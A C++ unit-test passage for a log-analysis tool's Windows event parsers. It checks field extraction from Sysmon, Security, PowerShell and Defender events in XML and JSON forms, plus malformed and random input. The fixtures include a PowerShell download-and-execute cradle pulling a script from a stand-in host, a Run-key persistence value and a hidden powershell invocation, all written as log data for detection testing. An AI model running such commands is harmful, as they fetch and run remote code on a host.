// tests/windows_parser_test.cc
//! The Windows event parsers (parsers/windows.h) and the event XML scanner (parsers/winevent.h):
//! every input form (event XML, Winlogbeat JSON, NXLog JSON, Wazuh JSON, Sysmon for Linux in
//! syslog) per event id with exact values, hostile XML, and the real corpus scored against the
//! peers' expected output.
#include <gtest/gtest.h>
#include <simdjson.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <random>
#include <string>
#include <vector>

#include "core/time.h"
#include "core/tokenize.h"
#include "corpus_util.h"
#include "parser_test_util.h"
#include "parsers/parse.h"
#include "parsers/registry.h"
#include "parsers/winevent.h"
#include "parsers/windows.h"

namespace kamatama {
namespace {

using test_util::F;
using test_util::T;

//! Registers the Windows parsers on the global registry (idempotent: same datasets replace).
void RegisterOnce() {
  static bool done = [] {
    RegisterWindowsParsers(&ParserRegistry::Global());
    return true;
  }();
  (void)done;
}

Event Rec(const std::string& data, const std::string& source = "") {
  RegisterOnce();
  return corpus::Parse(data, source);
}

// ---------------------------------------------------------------- samples

const char kSysmon1Xml[] =
    R"(<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"></Provider>
<EventID Qualifiers="">1</EventID>
<Level>4</Level>
<Keywords>0x8000000000000000</Keywords>
<TimeCreated SystemTime="2020-10-20 11:50:54.810152"></TimeCreated>
<EventRecordID>622</EventRecordID>
<Execution ProcessID="7212" ThreadID="9748"></Execution>
<Channel>Microsoft-Windows-Sysmon/Operational</Channel>
<Computer>DESKTOP-NTSSLJD</Computer>
<Security UserID="S-1-5-18"></Security>
</System>
<EventData><Data Name="RuleName">technique_id=T1059.001,technique_name=PowerShell</Data>
<Data Name="UtcTime">2020-10-20 11:50:54.800</Data>
<Data Name="ProcessGuid">{23f38d93-cf1e-5f8e-c808-000000000c00}</Data>
<Data Name="ProcessId">8712</Data>
<Data Name="Image">C:\Tools\Akagi64.exe</Data>
<Data Name="Product">Microsoft&#174; Windows&#xae; &lt;OS&gt;</Data>
<Data Name="CommandLine">"C:\Tools\Akagi64.exe" 23 &amp;&amp; echo &quot;x&quot; &apos;y&apos;</Data>
<Data Name="CurrentDirectory">C:\Tools\</Data>
<Data Name="User">DESKTOP-NTSSLJD\den</Data>
<Data Name="Hashes">SHA1=C1B5762E8C59D2912AB408CA14875583EF5A66C9,MD5=C402A9717DF55C1B74864C1DB2E5A0E1,SHA256=C16AC8542EE2B34D7248DFDC1C877ACF222FEDC8FB1418B8BB12905EFBDCBC2B,IMPHASH=E380F823A2FDF736666DA9E6AA697BA6</Data>
<Data Name="ParentProcessGuid">{23f38d93-ce9a-5f8e-8b08-000000000c00}</Data>
<Data Name="ParentProcessId">7088</Data>
<Data Name="ParentImage">C:\Windows\explorer.exe</Data>
<Data Name="ParentCommandLine">C:\Windows\Explorer.EXE</Data>
</EventData>
</Event>)";

// Winlogbeat 8 shape: winlog.* plus the ECS fields Winlogbeat itself adds.
const char kSysmon3Winlogbeat[] =
    R"({"@timestamp":"2023-01-02T03:04:05.678Z","event":{"code":"3","kind":"event","provider":"Microsoft-Windows-Sysmon"},)"
    R"("host":{"name":"ws01.corp.example"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"ws01.corp.example",)"
    R"("event_id":3,"provider_name":"Microsoft-Windows-Sysmon","record_id":9001,"process":{"pid":2040,"thread":{"id":3000}},)"
    R"("user":{"identifier":"S-1-5-18"},"event_data":{"RuleName":"-","UtcTime":"2023-01-02 03:04:05.123","ProcessGuid":"{aaaa-1}",)"
    R"("ProcessId":"4242","Image":"C:\\Windows\\System32\\curl.exe","User":"CORP\\alice","Protocol":"tcp","Initiated":"true",)"
    R"("SourceIsIpv6":"false","SourceIp":"10.1.2.3","SourceHostname":"ws01.corp.example","SourcePort":"50123",)"
    R"("DestinationIsIpv6":"false","DestinationIp":"93.184.216.34","DestinationHostname":"example.com","DestinationPort":"443"}}})";

const char kSysmon22Winlogbeat[] =
    R"({"@timestamp":"2023-01-02T03:04:05Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"22",)"
    R"("provider_name":"Microsoft-Windows-Sysmon","computer_name":"ws01","event_data":{"UtcTime":"2023-01-02 03:04:06.500",)"
    R"("ProcessId":"1234","Image":"C:\\Program Files\\app\\app.exe","QueryName":"www.example.com","QueryStatus":"0",)"
    R"("QueryResults":"type:  5 edge.example.net;::ffff:93.184.216.34;2606:2800:220:1::1;"}}})";

// NXLog im_msvistalog + to_json: flat EventData next to the System fields.
const char kSysmon13Nxlog[] =
    R"({"EventTime":"2023-01-02 03:04:05","Hostname":"ws02.corp.example","Keywords":-9223372036854775808,"EventType":"INFO",)"
    R"("SeverityValue":2,"Severity":"INFO","EventID":13,"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",)"
    R"("Version":2,"Task":13,"OpcodeValue":0,"RecordNumber":77,"ExecutionProcessID":2040,"ExecutionThreadID":3000,)"
    R"("Channel":"Microsoft-Windows-Sysmon/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18",)"
    R"("AccountType":"Well Known Group","Message":"Registry value set","Category":"Registry value set - rule RegistryEvent",)"
    R"("Opcode":"Info","RuleName":"-","EventType":"SetValue","UtcTime":"2023-01-02 03:04:05.999","ProcessGuid":"{bbbb-2}",)"
    R"("ProcessId":"555","Image":"C:\\Windows\\regedit.exe",)"
    R"("TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater","Details":"C:\\Users\\Public\\u.exe",)"
    R"("EventReceivedTime":"2023-01-02 03:04:06","SourceModuleName":"in","SourceModuleType":"im_msvistalog"})";

const char kSecurity4625Xml[] =
    R"(<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}" />)"
    R"(<EventID>4625</EventID><Version>0</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode><Keywords>0x8010000000000000</Keywords>)"
    R"(<TimeCreated SystemTime="2022-04-28T16:09:28.9443547Z" /><EventRecordID>2524</EventRecordID><Execution ProcessID="712" ThreadID="11528" />)"
    R"(<Channel>Security</Channel><Computer>exchange-1.mydomain.test</Computer><Security /></System><EventData>)"
    R"(<Data Name="SubjectUserSid">S-1-5-18</Data><Data Name="SubjectUserName">EXCHANGE-1$</Data><Data Name="SubjectDomainName">MYDOMAIN</Data>)"
    R"(<Data Name="TargetUserSid">S-1-0-0</Data><Data Name="TargetUserName">testuser</Data><Data Name="TargetDomainName">EXCHANGE-1</Data>)"
    R"(<Data Name="Status">0xc000006d</Data><Data Name="FailureReason">%%2313</Data><Data Name="SubStatus">0xc0000064</Data>)"
    R"(<Data Name="LogonType">8</Data><Data Name="LogonProcessName">Advapi  </Data><Data Name="AuthenticationPackageName">Negotiate</Data>)"
    R"(<Data Name="WorkstationName">EXCHANGE-1</Data><Data Name="ProcessId">0x14a0</Data>)"
    R"(<Data Name="ProcessName">C:\Windows\System32\inetsrv\w3wp.exe</Data><Data Name="IpAddress">203.0.113.7</Data><Data Name="IpPort">51234</Data></EventData></Event>)";

const char kSecurity4624Winlogbeat[] =
    R"({"@timestamp":"2023-05-06T07:08:09.123Z","host":{"name":"dc01"},"winlog":{"channel":"Security","event_id":"4624",)"
    R"("provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"DC01.corp.example","record_id":"123",)"
    R"("keywords":["Audit Success"],"event_data":{"SubjectUserSid":"S-1-5-18","SubjectUserName":"DC01$","SubjectDomainName":"CORP",)"
    R"("TargetUserSid":"S-1-5-21-1-2-3-1104","TargetUserName":"bob","TargetDomainName":"CORP","TargetLogonId":"0x8dcdc",)"
    R"("LogonType":"10","AuthenticationPackageName":"Negotiate","WorkstationName":"LAPTOP7","IpAddress":"198.51.100.20",)"
    R"("IpPort":"3389","ProcessId":"0x44c","ProcessName":"C:\\Windows\\System32\\svchost.exe"}}})";

const char kSecurity4625Nxlog[] =
    R"({"EventTime":"2023-05-06 07:08:09","Hostname":"srv01.corp.example","Keywords":"0x8010000000000000","EventType":"AUDIT_FAILURE",)"
    R"("EventID":4625,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","RecordNumber":99,)"
    R"("SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","TargetUserSid":"S-1-0-0","TargetUserName":"admin",)"
    R"("TargetDomainName":"SRV01","Status":"0xc000006d","SubStatus":"0xc000006a","LogonType":"3","AuthenticationPackageName":"NTLM",)"
    R"("WorkstationName":"kali","IpAddress":"192.0.2.44","IpPort":"0","ProcessId":"0x0","ProcessName":"-"})";

const char kSecurity4771Xml[] =
    R"(<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing"/>)"
    R"(<EventID>4771</EventID><Keywords>0x8010000000000000</Keywords><TimeCreated SystemTime="2019-03-19 19:12:48.151420"/>)"
    R"(<Channel>Security</Channel><Computer>DC1.insecurebank.local</Computer></System><EventData>)"
    R"(<Data Name="TargetUserName">bob</Data><Data Name="TargetSid">S-1-5-21-1-2-3-1105</Data><Data Name="ServiceName">krbtgt/insecurebank.local</Data>)"
    R"(<Data Name="TicketOptions">0x40810010</Data><Data Name="Status">0x18</Data><Data Name="PreAuthType">2</Data>)"
    R"(<Data Name="IpAddress">::ffff:172.16.66.1</Data><Data Name="IpPort">60390</Data></EventData></Event>)";

const char kPowerShell4104Xml[] =
    R"(<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-PowerShell" Guid="{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"/>)"
    R"(<EventID>4104</EventID><Level>5</Level><TimeCreated SystemTime="2021-03-04T05:06:07.1234567Z"/><EventRecordID>42</EventRecordID>)"
    R"(<Execution ProcessID="6000" ThreadID="1"/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>ws03</Computer>)"
    R"(<Security UserID="S-1-5-21-9-9-9-1001"/></System><EventData><Data Name="MessageNumber">1</Data><Data Name="MessageTotal">1</Data>)"
    R"(<Data Name="ScriptBlockText">IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1') | Out-Null; if (1 -lt 2) { "a&amp;b" }</Data>)"
    R"(<Data Name="ScriptBlockId">0f7d3b2a-1111-2222-3333-444455556666</Data><Data Name="Path">C:\Users\eve\a.ps1</Data></EventData></Event>)";

const char kPowerShell4103Winlogbeat[] =
    R"({"@timestamp":"2021-03-04T05:06:08Z","winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":4103,)"
    R"("provider_name":"Microsoft-Windows-PowerShell","computer_name":"ws03","user":{"identifier":"S-1-5-21-9-9-9-1001"},)"
    R"("event_data":{"ContextInfo":"        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.19041.1\r\n)"
    R"(        Host ID = 1d2e\r\n        Host Application = powershell.exe -nop -w hidden -c Get-Process\r\n        Engine Version = 5.1.19041.1\r\n)"
    R"(        Runspace ID = 7a8b\r\n        Pipeline ID = 10\r\n        Command Name = Get-Process\r\n        Command Type = Cmdlet\r\n)"
    R"(        Script Name = \r\n        Command Path = \r\n        Sequence Number = 16\r\n        User = CORP\\eve\r\n)"
    R"(        Connected User = \r\n        Shell ID = Microsoft.PowerShell\r\n","UserData":"","Payload":"CommandInvocation(Get-Process): \"Get-Process\"\r\n"}}})";

const char kDefender1117Xml[] =
    R"(<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Windows Defender" Guid="{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}"></Provider>)"
    R"(<EventID Qualifiers="">1117</EventID><Level>4</Level><TimeCreated SystemTime="2019-07-18 20:40:16.800525"></TimeCreated>)"
    R"(<Channel>Microsoft-Windows-Windows Defender/Operational</Channel><Computer>MSEDGEWIN10</Computer><Security UserID="S-1-5-18"></Security></System>)"
    R"(<EventData><Data Name="Product Version">4.18.1906.3</Data><Data Name="Threat ID">2147725349</Data>)"
    R"(<Data Name="Threat Name">Trojan:PowerShell/Powersploit.M</Data><Data Name="Severity ID">5</Data><Data Name="Category Name">Trojan</Data>)"
    R"(<Data Name="FWLink">https://go.microsoft.com/fwlink/?linkid=37020&amp;name=Trojan:PowerShell/Powersploit.M</Data>)"
    R"(<Data Name="Process Name">C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data><Data Name="Detection User">MSEDGEWIN10\IEUser</Data>)"
    R"(<Data Name="Path">file:_C:\AtomicRedTeam\T1056\Get-Keystrokes.ps1;process:_pid:1234,ProcessStart:132080000000000000</Data>)"
    R"(<Data Name="Action ID">2</Data><Data Name="Error Code">0x00000000</Data><Data Name="Signature Version">AV: 1.297.1333.0</Data></EventData></Event>)";

const char kDefender5001Winlogbeat[] =
    R"({"@timestamp":"2024-02-03T04:05:06Z","winlog":{"channel":"Microsoft-Windows-Windows Defender/Operational","event_id":"5001",)"
    R"("provider_name":"Microsoft-Windows-Windows Defender","computer_name":"ws09","event_data":{"Product Name":"%%827","Product Version":"4.18.2"}}})";

const char kDefender1116Nxlog[] =
    R"({"EventTime":"2024-02-03 04:05:06","Hostname":"ws10","EventID":1116,"SourceName":"Microsoft-Windows-Windows Defender",)"
    R"("Channel":"Microsoft-Windows-Windows Defender/Operational","Threat Name":"Virus:DOS/EICAR_Test_File","Threat ID":"2147519003",)"
    R"("Severity ID":"5","Path":"file:_C:\\Users\\x\\Downloads\\eicar.com","Process Name":"Unknown","Detection User":"WS10\\x","Action ID":"9"})";

// ---------------------------------------------------------------- scanner

TEST(WinEventXml, LooksLike) {
  using winevent::LooksLikeEventXml;
  EXPECT_TRUE(LooksLikeEventXml("<Event xmlns=\"x\"><System/></Event>"));
  EXPECT_TRUE(LooksLikeEventXml("  \r\n<Event>"));
  EXPECT_TRUE(LooksLikeEventXml("- <Event xmlns=\"x\">- <System>"));
  EXPECT_TRUE(LooksLikeEventXml("\xEF\xBB\xBF<?xml version=\"1.0\"?>\n<Events>\n<Event>"));
  EXPECT_FALSE(LooksLikeEventXml("<Events>"));
  EXPECT_FALSE(LooksLikeEventXml("<EventData>"));
  EXPECT_FALSE(LooksLikeEventXml("<Event"));
  EXPECT_FALSE(LooksLikeEventXml("<13>Jan  1 00:00:00 host app: <Event>"));
  EXPECT_FALSE(LooksLikeEventXml(""));
  EXPECT_FALSE(LooksLikeEventXml("<?xml version=\"1.0\""));
}

TEST(WinEventXml, EntitiesAndCharacterReferences) {
  std::string out;
  winevent::AppendXmlDecoded("a&lt;b&gt;c&amp;d&quot;e&apos;f&#65;&#x42;&#xe9;&#128512;", &out);
  EXPECT_EQ(out, "a<b>c&d\"e'fAB\xC3\xA9\xF0\x9F\x98\x80");
  out.clear();
  winevent::AppendXmlDecoded("&unknown; & &#; &#x; &#xZZ; &#1114112; &#xD800; &#0; &amp", &out);
  EXPECT_EQ(out, "&unknown; & &#; &#x; &#xZZ; \xEF\xBF\xBD \xEF\xBF\xBD \xEF\xBF\xBD &amp");
}

TEST(WinEventXml, ScansSystemAndEventData) {
  winevent::Record r;
  ASSERT_TRUE(winevent::ScanEventXml(kSysmon1Xml, &r));
  EXPECT_EQ(r.form, winevent::Form::kXml);
  EXPECT_EQ(r.provider, "Microsoft-Windows-Sysmon");
  EXPECT_EQ(r.event_id, "1");
  EXPECT_EQ(r.channel, "Microsoft-Windows-Sysmon/Operational");
  EXPECT_EQ(r.computer, "DESKTOP-NTSSLJD");
  EXPECT_EQ(r.system_time, "2020-10-20 11:50:54.810152");
  EXPECT_EQ(r.process_id, "7212");
  EXPECT_EQ(r.thread_id, "9748");
  EXPECT_EQ(r.record_id, "622");
  EXPECT_EQ(r.level, "4");
  EXPECT_EQ(r.user_sid, "S-1-5-18");
  ASSERT_EQ(r.data.size(), 14u);
  EXPECT_EQ(r.data[0].first, "RuleName");
  EXPECT_EQ(r.Val("product"), "Microsoft\xC2\xAE Windows\xC2\xAE <OS>");
  EXPECT_EQ(r.Val("CommandLine"), "\"C:\\Tools\\Akagi64.exe\" 23 && echo \"x\" 'y'");
}

TEST(WinEventXml, UserDataUnnamedDataCdataCommentsAndNamespaces) {
  winevent::Record r;
  ASSERT_TRUE(winevent::ScanEventXml(
      "<?xml version='1.0'?><!-- c <Event> --><Event xmlns='x'>\n<System>\n<Provider Name='Microsoft-Windows-Eventlog'/>"
      "<EventID Qualifiers=''> 1102 </EventID><Channel>Security</Channel></System>"
      "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>"
      "<SubjectUserSid>S-1-5-21-1-500</SubjectUserSid><SubjectUserName>Admin&amp;</SubjectUserName>"
      "<e:Extra xmlns:e='y'><![CDATA[a<b>&amp;]]> tail</e:Extra></LogFileCleared></UserData>"
      "<EventData><Data>first</Data><Data/><Data Name=\"N\">v</Data></EventData>"
      "<RenderingInfo Culture='en-US'><Message>The audit log was cleared.</Message></RenderingInfo></Event>",
      &r));
  EXPECT_EQ(r.event_id, "1102");
  EXPECT_EQ(r.provider, "Microsoft-Windows-Eventlog");
  EXPECT_EQ(r.Val("SubjectUserSid"), "S-1-5-21-1-500");
  EXPECT_EQ(r.Val("SubjectUserName"), "Admin&");
  EXPECT_EQ(r.Val("Extra"), "a<b>&amp; tail");
  EXPECT_EQ(r.Val("param1"), "first");
  ASSERT_NE(r.Find("param2"), nullptr);
  EXPECT_EQ(*r.Find("param2"), "");
  EXPECT_EQ(r.Val("N"), "v");
  EXPECT_EQ(r.rendered_message, "The audit log was cleared.");
}

TEST(WinEventXml, RejectsNonEventsAndSurvivesTruncation) {
  winevent::Record r;
  EXPECT_FALSE(winevent::ScanEventXml("", &r));
  EXPECT_FALSE(winevent::ScanEventXml("<Events></Events>", &r));
  EXPECT_FALSE(winevent::ScanEventXml("<Event></Event>", &r));
  EXPECT_FALSE(winevent::ScanEventXml("hello <EventData>", &r));
  const std::string full = kSysmon1Xml;
  for (size_t cut = 0; cut <= full.size(); ++cut) {  // every prefix: no crash, no overread (ASan)
    std::string part = full.substr(0, cut);
    winevent::Record p;
    if (winevent::ScanEventXml(part, &p)) {
      EXPECT_LE(p.data.size(), 14u);
    }
  }
  std::string many = "<Event><System><EventID>1</EventID></System><EventData>";
  for (int k = 0; k < 2000; ++k) many += "<Data Name=\"x\">1</Data>";
  ASSERT_TRUE(winevent::ScanEventXml(many, &r));
  EXPECT_EQ(r.data.size(), winevent::kMaxDataItems);
  // Deep nesting is flat work: no recursion.
  std::string deep = "<Event><System><EventID>1</EventID></System><UserData>";
  for (int k = 0; k < 100000; ++k) deep += "<a>";
  ASSERT_TRUE(winevent::ScanEventXml(deep, &r));
}

TEST(WinEventXml, RandomBytesNeverCrash) {
  std::mt19937 rng(7);
  const std::string alphabet = "<>/=\"' &#;x!-?[]CDATAEventSystemDataName1\n";
  for (int round = 0; round < 3000; ++round) {
    std::string s = "<Event>";
    const size_t len = rng() % 200;
    for (size_t k = 0; k < len; ++k) s.push_back(alphabet[rng() % alphabet.size()]);
    winevent::Record r;
    winevent::ScanEventXml(s, &r);
    std::string out;
    winevent::AppendXmlDecoded(s, &out);
  }
}

TEST(WinEventHelpers, Values) {
  EXPECT_EQ(winevent::DecimalOf("0x44c"), "1100");
  EXPECT_EQ(winevent::DecimalOf("1234"), "1234");
  EXPECT_EQ(winevent::DecimalOf("0x"), "");
  EXPECT_EQ(winevent::DecimalOf("-"), "");
  EXPECT_EQ(winevent::BaseName("C:\\a\\b.exe"), "b.exe");
  EXPECT_EQ(winevent::BaseName("/usr/bin/dash"), "dash");
  EXPECT_TRUE(winevent::IsIp("::ffff:10.0.0.12"));
  EXPECT_TRUE(winevent::IsIp("0:0:0:0:0:0:0:0"));
  EXPECT_FALSE(winevent::IsIp("-"));
  EXPECT_FALSE(winevent::IsIp("fe80::1%12"));
  using winevent::Family;
  EXPECT_EQ(winevent::FamilyOf("", "security"), Family::kSecurity);
  EXPECT_EQ(winevent::FamilyOf("Linux-Sysmon", ""), Family::kSysmon);
  EXPECT_EQ(winevent::FamilyOf("PowerShell", "Windows PowerShell"), Family::kPowerShell);
  EXPECT_EQ(winevent::FamilyOf("Microsoft-Windows-TaskScheduler", "Microsoft-Windows-TaskScheduler/Operational"),
            Family::kOther);
}

// ---------------------------------------------------------------- parsers: not theirs

TEST(WindowsParsers, DeclineWithoutTouchingTheEvent) {
  for (auto parse : {&ParseSysmon, &ParseWindowsSecurity, &ParsePowerShell, &ParseWindowsDefender}) {
    Event ev;
    ev.Add("message", "Accepted password for root from 1.2.3.4 port 22 ssh2");
    ev.Add("process.name", "sshd");
    const auto before = ev.fields;
    EXPECT_FALSE(parse(&ev));
    EXPECT_EQ(ev.fields, before);
    Event bad;
    bad.Add("message", "<Event><System><EventID>1</Event");
    const auto bad_before = bad.fields;
    EXPECT_FALSE(parse(&bad));
    EXPECT_EQ(bad.fields, bad_before);
  }
  // Each family declines the others' events.
  Event sec;
  sec.Add("message", kSecurity4625Xml);
  const auto sec_before = sec.fields;
  EXPECT_FALSE(ParseSysmon(&sec));
  EXPECT_FALSE(ParsePowerShell(&sec));
  EXPECT_FALSE(ParseWindowsDefender(&sec));
  EXPECT_EQ(sec.fields, sec_before);
  Event sys;
  sys.Add("message", kSysmon1Xml);
  EXPECT_FALSE(ParseWindowsSecurity(&sys));
}

TEST(WindowsParsers, TaskSchedulerJsonIsOnlyClaimedByTheGenericParser) {
  // Not Sysmon's; since issue 20 every other channel gets the common fields and its EventData
  // (windows.event), so detection rules routed by channel and event id see it.
  Event ev = Rec(R"({"EventID":106,"SourceName":"Microsoft-Windows-TaskScheduler","Channel":"Microsoft-Windows-TaskScheduler/Operational","TaskName":"\\x"})");
  EXPECT_EQ(F(ev, "event.dataset"), "windows.event");
  EXPECT_EQ(F(ev, "event.code"), "106");
  EXPECT_EQ(F(ev, "winlog.channel"), "Microsoft-Windows-TaskScheduler/Operational");
  EXPECT_EQ(F(ev, "winlog.event_data.TaskName"), "\\x");
  EXPECT_EQ(F(ev, "winlog.event_data.SourceName"), "<absent>");  // NXLog's own field, not EventData
}

TEST(WindowsParsers, EvtxJsonFormKeepsEventData) {
  // An .evtx dumper's JSON (System values and XML attributes under #attributes).
  Event ev = Rec(R"({"Event":{"#attributes":{"xmlns":"x"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},)"
                 R"("EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc1",)"
                 R"("TimeCreated":{"#attributes":{"SystemTime":"2025-11-26T05:11:27.927693Z"}}},)"
                 R"("EventData":{"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","User":"CORP\\bob",)"
                 R"("Hashes":"MD5=AA,IMPHASH=BB","ProcessId":4242}}})");
  EXPECT_EQ(F(ev, "event.dataset"), "sysmon.process_create");
  EXPECT_EQ(F(ev, "event.code"), "1");
  EXPECT_EQ(F(ev, "host.name"), "pc1");
  EXPECT_EQ(F(ev, "process.executable"), "C:\\Windows\\System32\\whoami.exe");
  EXPECT_EQ(F(ev, "winlog.event_data.User"), "CORP\\bob");
  EXPECT_EQ(F(ev, "winlog.event_data.Hashes"), "MD5=AA,IMPHASH=BB");
  EXPECT_EQ(F(ev, "winlog.event_data.ProcessId"), "4242");
  EXPECT_EQ(ev.timestamp_ns, T("2025-11-26T05:11:27.927693Z"));
}

// ---------------------------------------------------------------- Sysmon

TEST(Sysmon, ProcessCreateXmlRecord) {
  Event ev = Rec(kSysmon1Xml);
  EXPECT_EQ(F(ev, "event.dataset"), "sysmon.process_create");
  EXPECT_EQ(F(ev, "event.module"), "sysmon");
  EXPECT_EQ(F(ev, "event.category"), "process");
  EXPECT_EQ(F(ev, "event.type"), "start");
  EXPECT_EQ(F(ev, "event.action"), "process_create");
  EXPECT_EQ(F(ev, "event.outcome"), "success");
  EXPECT_EQ(F(ev, "event.kind"), "event");
  EXPECT_EQ(F(ev, "event.code"), "1");
  EXPECT_EQ(F(ev, "event.provider"), "Microsoft-Windows-Sysmon");
  EXPECT_EQ(F(ev, "winlog.channel"), "Microsoft-Windows-Sysmon/Operational");
  EXPECT_EQ(F(ev, "winlog.record_id"), "622");
  EXPECT_EQ(F(ev, "winlog.process.pid"), "7212");
  EXPECT_EQ(F(ev, "host.name"), "DESKTOP-NTSSLJD");
  EXPECT_EQ(F(ev, "log.level"), "information");
  EXPECT_EQ(ev.timestamp_ns, T("2020-10-20T11:50:54.800Z"));  // UtcTime, not SystemTime
  EXPECT_EQ(F(ev, "process.executable"), "C:\\Tools\\Akagi64.exe");
  EXPECT_EQ(F(ev, "process.name"), "Akagi64.exe");
  EXPECT_EQ(F(ev, "process.pid"), "8712");
  EXPECT_EQ(F(ev, "process.entity_id"), "{23f38d93-cf1e-5f8e-c808-000000000c00}");
  EXPECT_EQ(F(ev, "process.command_line"), "\"C:\\Tools\\Akagi64.exe\" 23 && echo \"x\" 'y'");
  EXPECT_EQ(F(ev, "process.working_directory"), "C:\\Tools\\");
  EXPECT_EQ(F(ev, "process.parent.executable"), "C:\\Windows\\explorer.exe");
  EXPECT_EQ(F(ev, "process.parent.name"), "explorer.exe");
  EXPECT_EQ(F(ev, "process.parent.pid"), "7088");
  EXPECT_EQ(F(ev, "process.parent.entity_id"), "{23f38d93-ce9a-5f8e-8b08-000000000c00}");
  EXPECT_EQ(F(ev, "process.parent.command_line"), "C:\\Windows\\Explorer.EXE");
  EXPECT_EQ(F(ev, "process.hash.sha256"), "C16AC8542EE2B34D7248DFDC1C877ACF222FEDC8FB1418B8BB12905EFBDCBC2B");
  EXPECT_EQ(F(ev, "process.hash.md5"), "C402A9717DF55C1B74864C1DB2E5A0E1");
  EXPECT_EQ(F(ev, "process.hash.sha1"), "C1B5762E8C59D2912AB408CA14875583EF5A66C9");
  EXPECT_EQ(F(ev, "process.pe.imphash"), "E380F823A2FDF736666DA9E6AA697BA6");
  EXPECT_EQ(F(ev, "user.name"), "den");
  EXPECT_EQ(F(ev, "user.domain"), "DESKTOP-NTSSLJD");
  EXPECT_EQ(F(ev, "rule.name"), "technique_id=T1059.001,technique_name=PowerShell");
  EXPECT_EQ(F(ev, "winlog.event_data.Product"), "Microsoft\xC2\xAE Windows\xC2\xAE <OS>");
  EXPECT_EQ(F(ev, "error.message"), "<absent>");
  EXPECT_EQ(ev.original, kSysmon1Xml);
}

TEST(Sysmon, SourceForcedAndSyslogWrappedLinux) {
  Event forced = Rec(kSysmon1Xml, "sysmon");
  EXPECT_EQ(F(forced, "event.dataset"), "sysmon.process_create");
  EXPECT_EQ(F(forced, "process.pid"), "8712");
  Event other = Rec(kSysmon1Xml, "auth.windows_security");
  EXPECT_NE(F(other, "event.dataset").rfind("sysmon", 0), 0u);
  EXPECT_EQ(F(other, "process.pid"), "<absent>");

  Event ev = Rec(
      "Jun  7 03:08:51 202-u20-dev-agent sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>"
      "<EventID>5</EventID><Version>3</Version><Level>4</Level><TimeCreated SystemTime=\"2023-06-07T03:08:51.879804000Z\"/>"
      "<EventRecordID>20363</EventRecordID><Correlation/><Execution ProcessID=\"5856\" ThreadID=\"5856\"/>"
      "<Channel>Linux-Sysmon/Operational</Channel><Computer>202-u20-dev-agent</Computer><Security UserId=\"0\"/></System>"
      "<EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">2023-06-07 03:08:51.887</Data>"
      "<Data Name=\"ProcessGuid\">{924935dc-6e7a-647f-4128-ad8fc0550000}</Data><Data Name=\"ProcessId\">745</Data>"
      "<Data Name=\"Image\">/usr/bin/dash</Data><Data Name=\"User\">root</Data></EventData></Event>");
  EXPECT_EQ(F(ev, "event.dataset"), "sysmon.process_terminate");
  EXPECT_EQ(F(ev, "event.type"), "end");
  EXPECT_EQ(F(ev, "process.name"), "dash");
  EXPECT_EQ(F(ev, "process.pid"), "745");
  EXPECT_EQ(F(ev, "user.name"), "root");
  EXPECT_EQ(F(ev, "user.domain"), "<absent>");
  EXPECT_EQ(F(ev, "host.os.type"), "linux");
  EXPECT_EQ(F(ev, "rule.name"), "<absent>");
  EXPECT_EQ(ev.timestamp_ns, T("2023-06-07T03:08:51.887Z"));
}

TEST(Sysmon, NetworkConnectionWinlogbeat) {
  Event ev = Rec(kSysmon3Winlogbeat);
  EXPECT_EQ(F(ev, "event.dataset"), "sysmon.network_connection");
  EXPECT_EQ(F(ev, "event.category"), "network");
  EXPECT_EQ(F(ev, "event.type"), "connection");
  EXPECT_EQ(F(ev, "event.code"), "3");
  EXPECT_EQ(F(ev, "source.ip"), "10.1.2.3");
  EXPECT_EQ(F(ev, "source.port"), "50123");
  EXPECT_EQ(F(ev, "source.domain"), "ws01.corp.example");
  EXPECT_EQ(F(ev, "destination.ip"), "93.184.216.34");
  EXPECT_EQ(F(ev, "destination.port"), "443");
  EXPECT_EQ(F(ev, "destination.domain"), "example.com");
  EXPECT_EQ(F(ev, "network.transport"), "tcp");
  EXPECT_EQ(F(ev, "network.direction"), "egress");
  EXPECT_EQ(F(ev, "network.type"), "ipv4");
  EXPECT_EQ(F(ev, "process.name"), "curl.exe");
  EXPECT_EQ(F(ev, "process.pid"), "4242");
  EXPECT_EQ(F(ev, "user.name"), "alice");
  EXPECT_EQ(F(ev, "user.domain"), "CORP");
  EXPECT_EQ(F(ev, "host.name"), "ws01.corp.example");
  EXPECT_EQ(F(ev, "rule.name"), "<absent>");
